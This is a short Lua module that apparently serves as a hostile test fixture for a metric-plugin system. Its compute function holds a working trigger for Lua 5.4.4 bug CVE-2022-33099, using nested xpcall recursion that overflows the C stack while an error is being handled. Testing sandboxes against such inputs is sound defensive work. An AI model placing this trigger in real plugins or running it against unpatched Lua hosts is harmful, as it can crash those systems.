-- lua544_error_cstack.lua: Lua 5.4.4 bug CVE-2022-33099: the Lua stack overflows when the C stack overflows while handling an error (patched in Debian 5.4.4-3)
return {
  id = "lua544_error_cstack",
  title = "Hostile: lua544_error_cstack",
  description = "Lua 5.4.4 bug CVE-2022-33099: the Lua stack overflows when the C stack overflows while handling an error (patched in Debian 5.4.4-3)",
  unit = "number",
  higher_is_better = true,
  version = "1.0",
  inputs = { "dedicated_funding" },
  compute = function(city)
    local function loop(x) return 1 + loop(x) end
    local function handler(m) return xpcall(loop, handler) end
    local ok, e = xpcall(loop, handler)
    error("reached the end: " .. tostring(ok))
  end,
}
